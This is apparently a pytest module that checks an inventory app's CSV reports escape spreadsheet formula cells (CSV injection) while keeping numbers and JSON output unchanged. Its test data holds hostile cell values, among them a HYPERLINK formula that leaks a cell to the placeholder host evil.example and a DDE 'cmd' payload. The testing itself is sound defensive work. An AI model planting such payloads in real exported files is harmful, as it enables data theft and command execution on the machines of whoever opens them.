"""CSV reports neutralise cells a spreadsheet would run as formulas (OWASP, CSV injection):
text starting with = + - @, a tab or a CR gets a leading single quote; numbers stay numbers,
a negative one included; JSON reports keep the text as it is."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from datetime import UTC, datetime, timedelta

import httpx
import pytest

from tests.inventory.helpers import make_product, restock
from tests.reports.conftest import run_report

HOSTILE_TITLES = {
    "CSV-EQ": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "CSV-PLUS": "+1+cmd|' /C calc'!A0",
    "CSV-MINUS": "-2+3",
    "CSV-AT": "@SUM(1,2)",
    "CSV-OK": "Plain bolt, 5-pack",
}
# titles lose surrounding whitespace on the way in; categories keep it
HOSTILE_CATEGORIES = {"CSV-EQ": "=cat", "CSV-TAB": "\t=1+1", "CSV-CR": "\r=1+1"}


@pytest.fixture(autouse=True)
def _worker(module_worker: subprocess.Popen[bytes]) -> None:
    """One worker generates this module's reports."""


async def test_csv_text_cells_cannot_be_formulas_and_numbers_stay_numbers(
    client: httpx.AsyncClient, admin: dict[str, str]
) -> None:
    for sku in HOSTILE_TITLES.keys() | HOSTILE_CATEGORIES.keys():
        title = HOSTILE_TITLES.get(sku, "Plain")
        await make_product(client, admin, sku, title=title, category=HOSTILE_CATEGORIES.get(sku))
        await restock(client, admin, sku, 5)
    after_restocks = datetime.now(UTC)
    r = await client.post(
        "/api/v1/inventory/adjustments",
        json={"sku": "CSV-MINUS", "location_code": "MAIN", "delta": -8 + 5, "reason": "damage"},
        headers=admin,
    )
    assert r.status_code == 201, r.text

    _, content = await run_report(client, admin, {"kind": "valuation", "format": "csv"})
    rows = {row["sku"]: row for row in csv.DictReader(io.StringIO(content.decode()))}
    for sku, title in HOSTILE_TITLES.items():
        expected = title if sku == "CSV-OK" else "'" + title
        assert rows[sku]["title"] == expected, sku
    for sku, category in HOSTILE_CATEGORIES.items():
        assert rows[sku]["category"] == "'" + category, sku
    assert rows["CSV-OK"]["category"] == ""
    assert rows["CSV-OK"]["quantity"] == "5" and rows["CSV-MINUS"]["quantity"] == "2"
    assert rows["CSV-OK"]["unit_price"] == "2.50"

    # the adjustment alone: a negative net, which must stay a number
    window = {
        "since": after_restocks.isoformat(),
        "until": (after_restocks + timedelta(days=1)).isoformat(),
    }
    _, content = await run_report(
        client, admin, {"kind": "movements", "format": "csv", "params": window}
    )
    moves = list(csv.DictReader(io.StringIO(content.decode())))
    minus = [row for row in moves if row["sku"] == "CSV-MINUS"]
    assert minus and minus[0]["net"] == "-3" and minus[0]["out"] == "3"

    _, content = await run_report(client, admin, {"kind": "valuation", "format": "json"})
    titles = {row["sku"]: row["title"] for row in json.loads(content)["rows"]}
    assert titles == {**dict.fromkeys(HOSTILE_CATEGORIES, "Plain"), **HOSTILE_TITLES}
